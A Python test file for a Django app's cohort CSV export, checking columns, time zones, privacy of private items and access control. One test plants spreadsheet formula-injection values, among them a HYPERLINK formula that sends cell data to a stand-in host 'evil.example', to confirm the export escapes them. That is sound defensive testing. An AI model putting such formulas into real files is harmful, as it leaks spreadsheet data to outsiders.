"""A cohort's CSV export: a zip of files a host can read in a spreadsheet, holding what the
exporting person may read on the pages and nothing else."""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse

from cadre.accountability.models import Blocker, Commitment, Experiment, ProgressUpdate
from cadre.cohorts.models import CohortMembership
from cadre.metrics.models import Metric, Observation
from cadre.networks.models import Skill
from cadre.schedule.models import Absence, Attendance, RoleAssignment, Session
from cadre.transfer.sheets import cohort_sheets

# A Tuesday in March: Berlin (the cast cohort's time zone) is an hour ahead of UTC.
NOW = datetime(2026, 3, 10, 9, 0, tzinfo=UTC)
pytestmark = pytest.mark.time_machine(NOW, tick=False)

PAGE = "/n/northwind/c/reliability/export/"
FILES = [
    "members.csv",
    "sessions.csv",
    "attendance.csv",
    "commitments.csv",
    "updates.csv",
    "experiments.csv",
    "metrics.csv",
]


def _zip(response: Any) -> zipfile.ZipFile:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response.content))


def _rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def _header(archive: zipfile.ZipFile, name: str) -> list[str]:
    return next(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def _export(client_for: Any, who: Any) -> zipfile.ZipFile:
    return _zip(client_for(who).get(PAGE + "?format=csv"))


@pytest.fixture
def week(cast: Any) -> dict[str, Any]:
    """Three weeks of a cohort: sessions, attendance, commitments (one private), updates with a
    blocker, an experiment, a metric. The cast joined on 1 February; the newcomer left on 5
    March."""
    c = cast.cohort
    CohortMembership.objects.filter(cohort=c).update(joined_on=date(2026, 2, 1))
    CohortMembership.objects.filter(cohort=c, user=cast.newcomer).update(left_on=date(2026, 3, 5))
    first = Session.objects.create(
        cohort=c, starts_at=datetime(2026, 3, 3, 14, 0, tzinfo=UTC), title="Game day"
    )
    # 23:30 UTC on the 5th is half past midnight on the 6th in Berlin.
    late = Session.objects.create(cohort=c, starts_at=datetime(2026, 3, 5, 23, 30, tzinfo=UTC))
    Attendance.objects.create(session=first, user=cast.member, status="present")
    Attendance.objects.create(session=first, user=cast.host, status="absent")
    Attendance.objects.create(session=first, user=cast.organizer, status="present")
    RoleAssignment.objects.create(session=first, user=cast.member, role="facilitator")
    RoleAssignment.objects.create(session=first, user=cast.host, role="note-taker")
    Absence.objects.create(session=late, user=cast.member, note="At a conference")

    runbook = Commitment.objects.create(
        cohort=c,
        owner=cast.member,
        text="Publish the runbook",
        due_on=date(2026, 3, 13),
        session=first,
        created_at=datetime(2026, 3, 3, 15, 0, tzinfo=UTC),
    )
    secret = Commitment.objects.create(
        cohort=c, owner=cast.member, text="Secret goal", visibility="private"
    )
    hosts_own = Commitment.objects.create(
        cohort=c, owner=cast.host, text="Host's quiet goal", visibility="private"
    )
    update = ProgressUpdate.objects.create(
        cohort=c,
        author=cast.member,
        commitment=runbook,
        done="Drafted the outline",
        remaining="Review with the on-call team",
        created_at=datetime(2026, 3, 4, 17, 45, tzinfo=UTC),
    )
    blocker = Blocker.objects.create(update=update, text="Nobody knows the old failover")
    blocker.skills.add(*Skill.objects.filter(name__in=["Facilitation", "Data analysis"]))
    ProgressUpdate.objects.create(
        cohort=c, author=cast.member, commitment=secret, done="Secret progress"
    )
    ProgressUpdate.objects.create(
        cohort=c, author=cast.host, commitment=hosts_own, done="Host's quiet progress"
    )
    skill = Skill.objects.get(name="Facilitation")
    for owner, title, visibility in (
        (cast.member, "Silent start", "cohort"),
        (cast.member, "Private trial", "private"),
    ):
        Experiment.objects.create(
            cohort=c,
            owner=owner,
            title=title,
            skill=skill,
            capability="Running calmer retros",
            hypothesis="Silence first brings out more ideas",
            plan="Five silent minutes",
            starts_on=date(2026, 3, 3),
            ends_on=date(2026, 3, 17),
            measure="Ideas per retro",
            visibility=visibility,
        )
    metric = Metric.objects.create(
        network=cast.network,
        cohort=c,
        name="Recovery time",
        unit="minutes",
        direction="lower",
        target=Decimal(30),
    )
    Observation.objects.create(
        metric=metric, value=Decimal("42.5"), observed_on=date(2026, 3, 2), recorded_by=cast.host
    )
    Observation.objects.create(
        metric=metric,
        value=Decimal("-3"),
        observed_on=date(2026, 3, 9),
        recorded_by=cast.member,
        person=cast.member,
        note="Change after the game day",
    )
    return {"first": first, "late": late, "runbook": runbook, "metric": metric}


def test_the_zip_holds_a_file_for_each_kind_of_record_with_human_columns(
    cast: Any, client_for: Any, week: dict[str, Any]
) -> None:
    response = client_for(cast.host).get(PAGE + "?format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="northwind-reliability-csv.zip"'
    archive = _zip(response)
    assert archive.namelist() == FILES
    assert _header(archive, "members.csv") == [
        "Name",
        "E-mail",
        "Role",
        "Joined on",
        "Left on",
        "Learning statement",
    ]
    assert _header(archive, "sessions.csv") == [
        "Date",
        "Starts at (Europe/Berlin)",
        "Minutes",
        "Title",
        "Kind",
        "Cancelled",
    ]
    assert _header(archive, "attendance.csv") == [
        "Session date",
        "Starts at (Europe/Berlin)",
        "Session title",
        "Name",
        "E-mail",
        "Attendance",
        "Rota role",
        "Told us they would be away",
    ]
    assert _header(archive, "commitments.csv")[:6] == [
        "Owner",
        "Owner's e-mail",
        "Commitment",
        "Deliverable",
        "Due on",
        "Status",
    ]
    assert _header(archive, "updates.csv") == [
        "Written at (Europe/Berlin)",
        "Author",
        "Author's e-mail",
        "Commitment",
        "Commitment due on",
        "Done",
        "Remaining",
        "Blocker",
        "Skills that could help",
        "Blocker resolved on",
    ]
    assert _header(archive, "metrics.csv") == [
        "Metric",
        "Unit",
        "Date",
        "Value",
        "About",
        "Recorded by",
        "Note",
    ]
    for name in FILES:  # UTF-8 with a byte order mark, for Excel
        assert archive.read(name).startswith(codecs.BOM_UTF8), name
    assert "id" not in {c.lower() for name in FILES for c in _header(archive, name)}


def test_members_by_name_and_e_mail(cast: Any, client_for: Any, week: dict[str, Any]) -> None:
    cast.member.name = "Zoë Łukasz"
    cast.member.save()
    members = _rows(_export(client_for, cast.organizer), "members.csv")
    assert members == [
        {
            "Name": "Hana Host",
            "E-mail": "hana@northwind.test",
            "Role": "Host",
            "Joined on": "2026-02-01",
            "Left on": "",
            "Learning statement": "Hana Host will apply it.",
        },
        {
            "Name": "Zoë Łukasz",
            "E-mail": "mo@northwind.test",
            "Role": "Member",
            "Joined on": "2026-02-01",
            "Left on": "",
            "Learning statement": "Mo Member will apply it.",
        },
        {
            "Name": "Nia Newcomer",
            "E-mail": "nia@northwind.test",
            "Role": "Member",
            "Joined on": "2026-02-01",
            "Left on": "2026-03-05",
            "Learning statement": "Nia Newcomer will apply it.",
        },
    ]


def test_sessions_and_attendance_on_the_cohorts_clock(
    cast: Any, client_for: Any, week: dict[str, Any]
) -> None:
    Session.objects.create(
        cohort=cast.cohort, starts_at=datetime(2026, 3, 8, 14, 0, tzinfo=UTC), cancelled=True
    )
    archive = _export(client_for, cast.host)
    sessions = _rows(archive, "sessions.csv")
    assert [
        (s["Date"], s["Starts at (Europe/Berlin)"], s["Title"], s["Cancelled"]) for s in sessions
    ] == [
        ("2026-03-03", "15:00", "Game day", ""),
        ("2026-03-06", "00:30", "", ""),
        ("2026-03-08", "15:00", "", "yes"),
    ]
    attendance = [
        (
            row["Session date"],
            row["Name"],
            row["E-mail"],
            row["Attendance"],
            row["Rota role"],
            row["Told us they would be away"],
        )
        for row in _rows(archive, "attendance.csv")
    ]
    assert attendance == [
        ("2026-03-03", "Hana Host", "hana@northwind.test", "Absent", "note-taker", ""),
        ("2026-03-03", "Mo Member", "mo@northwind.test", "Present", "facilitator", ""),
        ("2026-03-03", "Nia Newcomer", "nia@northwind.test", "", "", ""),
        # An organizer who sat in: named, but not on the roster, so no e-mail address.
        ("2026-03-03", "Olu Organizer", "", "Present", "", ""),
        # On the 6th the newcomer had left (on the 5th).
        ("2026-03-06", "Hana Host", "hana@northwind.test", "", "", ""),
        ("2026-03-06", "Mo Member", "mo@northwind.test", "", "", "At a conference"),
        # Nobody met on the 8th: the cancelled session has no attendance rows.
    ]


def test_commitments_and_updates_name_people_and_skills(
    cast: Any, client_for: Any, week: dict[str, Any]
) -> None:
    archive = _export(client_for, cast.organizer)
    (commitment,) = _rows(archive, "commitments.csv")
    assert commitment == {
        "Owner": "Mo Member",
        "Owner's e-mail": "mo@northwind.test",
        "Commitment": "Publish the runbook",
        "Deliverable": "",
        "Due on": "2026-03-13",
        "Status": "Open",
        "Done on": "",
        "Evidence": "",
        "Made at the session of": "2026-03-03",
        "Who sees it": "The cohort",
        "Written on": "2026-03-03",
    }
    (update,) = _rows(archive, "updates.csv")
    assert update == {
        "Written at (Europe/Berlin)": "2026-03-04 18:45",
        "Author": "Mo Member",
        "Author's e-mail": "mo@northwind.test",
        "Commitment": "Publish the runbook",
        "Commitment due on": "2026-03-13",
        "Done": "Drafted the outline",
        "Remaining": "Review with the on-call team",
        "Blocker": "Nobody knows the old failover",
        "Skills that could help": "Data analysis; Facilitation",
        "Blocker resolved on": "",
    }
    (experiment,) = _rows(archive, "experiments.csv")
    assert experiment["Owner"] == "Mo Member"
    assert experiment["Skill"] == "Facilitation"
    assert (experiment["Starts on"], experiment["Ends on"]) == ("2026-03-03", "2026-03-17")
    assert experiment["Outcome"] == "Running"


def test_metrics_by_name_date_value_and_who_recorded(
    cast: Any, client_for: Any, week: dict[str, Any]
) -> None:
    rows = _rows(_export(client_for, cast.host), "metrics.csv")
    assert rows == [
        {
            "Metric": "Recovery time",
            "Unit": "minutes",
            "Date": "2026-03-02",
            "Value": "42.5",
            "About": "",
            "Recorded by": "Hana Host",
            "Note": "",
        },
        {
            "Metric": "Recovery time",
            "Unit": "minutes",
            "Date": "2026-03-09",
            "Value": "-3",  # a number stays a number
            "About": "Mo Member",
            "Recorded by": "Mo Member",
            "Note": "Change after the game day",
        },
    ]


@pytest.mark.parametrize("who", ["host", "organizer", "admin"])
def test_private_items_stay_with_their_owner(
    cast: Any, client_for: Any, week: dict[str, Any], who: str
) -> None:
    reader = getattr(cast, who)
    archive = _export(client_for, reader)
    text = "".join(archive.read(name).decode("utf-8-sig") for name in FILES)
    for secret in ("Secret goal", "Secret progress", "Private trial"):
        assert secret not in text, (who, secret)
    commitments = {row["Commitment"] for row in _rows(archive, "commitments.csv")}
    updates = {row["Done"] for row in _rows(archive, "updates.csv")}
    if who == "host":  # the host's own private commitment is theirs to export
        assert commitments == {"Publish the runbook", "Host's quiet goal"}
        assert updates == {"Drafted the outline", "Host's quiet progress"}
        mine = next(r for r in _rows(archive, "commitments.csv") if r["Owner"] == "Hana Host")
        assert mine["Who sees it"] == "Only the owner"
    else:
        assert commitments == {"Publish the runbook"}
        assert updates == {"Drafted the outline"}
    # The same rows as the JSON export, which asks the same rules.
    sheets = {sheet.name: sheet for sheet in cohort_sheets(cast.cohort, reader)}
    assert len(sheets["commitments.csv"].rows) == len(commitments)


def test_text_a_spreadsheet_would_run_is_written_as_text(
    cast: Any, client_for: Any, week: dict[str, Any]
) -> None:
    week["runbook"].text = '=HYPERLINK("http://evil.example/?"&A1, "open")'
    week["runbook"].save()
    cast.member.name = "@SUM(A1:A9)"
    cast.member.save()
    CohortMembership.objects.filter(user=cast.host).update(learning_statement="+1+1")
    week["first"].title = "-2+3"
    week["first"].save()
    archive = _export(client_for, cast.host)
    (commitment,) = [
        r for r in _rows(archive, "commitments.csv") if r["Owner's e-mail"] == "mo@northwind.test"
    ]
    assert commitment["Commitment"] == '\'=HYPERLINK("http://evil.example/?"&A1, "open")'
    assert commitment["Owner"] == "'@SUM(A1:A9)"
    members = {r["E-mail"]: r for r in _rows(archive, "members.csv")}
    assert members["hana@northwind.test"]["Learning statement"] == "'+1+1"
    assert _rows(archive, "sessions.csv")[0]["Title"] == "'-2+3"
    assert [r["Value"] for r in _rows(archive, "metrics.csv")] == ["42.5", "-3"]


@pytest.mark.parametrize("who", ["host", "organizer", "admin"])
def test_hosts_and_organizers_download_the_spreadsheets(
    cast: Any, client_for: Any, who: str
) -> None:
    archive = _export(client_for, getattr(cast, who))
    assert archive.namelist() == FILES


@pytest.mark.parametrize("who", ["member", "other_cohort_member", "mentor", "partner", "outsider"])
def test_others_do_not_find_the_spreadsheets(cast: Any, client_for: Any, who: str) -> None:
    """A member of the cohort, of another cohort or of another network: not found."""
    assert client_for(getattr(cast, who)).get(PAGE + "?format=csv").status_code == 404


def test_anonymous_and_newcomers_are_sent_away_from_the_spreadsheets(
    cast: Any, client_for: Any
) -> None:
    response = client_for(None).get(PAGE + "?format=csv")
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))
    response = client_for(cast.newcomer).get(PAGE + "?format=csv")
    assert response.status_code == 302 and "conduct" in response["Location"]


def test_an_empty_cohort_gives_files_with_headers_only(cast: Any, client_for: Any) -> None:
    CohortMembership.objects.filter(cohort=cast.cohort).exclude(user=cast.host).delete()
    archive = _export(client_for, cast.organizer)
    assert archive.namelist() == FILES
    for name in FILES[1:]:
        assert _rows(archive, name) == [], name
    assert len(_rows(archive, "members.csv")) == 1


def test_the_page_describes_each_file(cast: Any, client_for: Any) -> None:
    text = client_for(cast.host).get(PAGE).content.decode()
    for name in FILES:
        assert name in text
    assert "Europe/Berlin" in text


# --- the API gives the same zip, through the same service -----------------------------------

API = "/api/v1/networks/northwind/cohorts/reliability/export/csv"


def _files(archive: zipfile.ZipFile) -> dict[str, bytes]:
    return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("who", ["host", "organizer", "admin"])
def test_the_api_gives_the_pages_zip(
    cast: Any, client_for: Any, week: dict[str, Any], who: str
) -> None:
    client = client_for(getattr(cast, who))
    response = client.get(API)
    assert response["Content-Disposition"] == 'attachment; filename="northwind-reliability-csv.zip"'
    assert _files(_zip(response)) == _files(_zip(client.get(PAGE + "?format=csv")))


def test_the_api_refuses_everyone_else(cast: Any, client_for: Any) -> None:
    answer = client_for(cast.member).get(API)
    assert answer.status_code == 403
    assert answer.json()["error"] == {
        "code": "forbidden",
        "message": "Only the cohort's hosts and the network's organizers export its data.",
    }
    for who in ("other_cohort_member", "mentor", "partner", "outsider"):
        answer = client_for(getattr(cast, who)).get(API)
        assert answer.status_code == 404, who
        assert answer.json()["error"]["code"] == "not_found"
    assert client_for(None).get(API).status_code == 401
    answer = client_for(cast.newcomer).get(API)
    assert answer.json()["error"]["code"] == "conduct_not_accepted"


# --- the docs show each file's own columns --------------------------------------------------


def test_the_operating_guide_shows_each_files_header(cast: Any) -> None:
    from cadre.tests.test_docs import DOCS, section

    text = section((DOCS / "operating.md").read_text(), "A cohort's spreadsheets")
    blocks = re.findall(r"`([a-z]+\.csv)`:.*?```csv\n(.*?)\n(.*?)\n```", text, re.S)
    sheets = cohort_sheets(cast.cohort, cast.host)  # a cohort in Europe/Berlin, as the docs'
    assert [name for name, _, _ in blocks] == FILES == [sheet.name for sheet in sheets]
    for (name, header, sample), sheet in zip(blocks, sheets, strict=True):
        assert next(csv.reader([header])) == sheet.columns, name
        assert len(next(csv.reader([sample]))) == len(sheet.columns), name
